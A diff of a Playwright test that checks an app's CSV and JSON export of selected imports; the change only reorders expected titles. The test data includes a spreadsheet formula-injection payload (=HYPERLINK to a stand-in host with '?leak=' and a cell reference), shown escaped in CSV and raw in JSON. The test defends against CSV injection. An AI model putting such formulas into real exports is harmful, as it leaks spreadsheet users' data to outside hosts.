@@ -26,9 +26,9 @@ test('exports what is selected as CSV and as JSON', async ({ page, console }) =>
     expect.arrayContaining(['id', 'title', 'status', 'failedReason', 'count', 'createdAt']),
   )
   const titles = records.map((record) => record[header!.indexOf('title')])
-  expect(titles.toSorted()).toEqual([
-    `'=HYPERLINK("https://example.com/?leak="&A1,"Open the list")`,
+  expect(titles).toEqual([
     'Approved vendors EMEA',
+    `'=HYPERLINK("https://example.com/?leak="&A1,"Open the list")`,
   ])
   await expect(bar).toContainText(`Exported 2 imports to ${csv.name}`)
 
@@ -36,9 +36,9 @@ test('exports what is selected as CSV and as JSON', async ({ page, console }) =>
   expect(json.name).toMatch(/\.json$/)
   const imports = JSON.parse(json.text) as Import[]
   // JSON is for programs: the title is as it came.
-  expect(imports.map(({ title }) => title).toSorted()).toEqual([
-    '=HYPERLINK("https://example.com/?leak="&A1,"Open the list")',
+  expect(imports.map(({ title }) => title)).toEqual([
     'Approved vendors EMEA',
+    '=HYPERLINK("https://example.com/?leak="&A1,"Open the list")',
   ])
 })
 
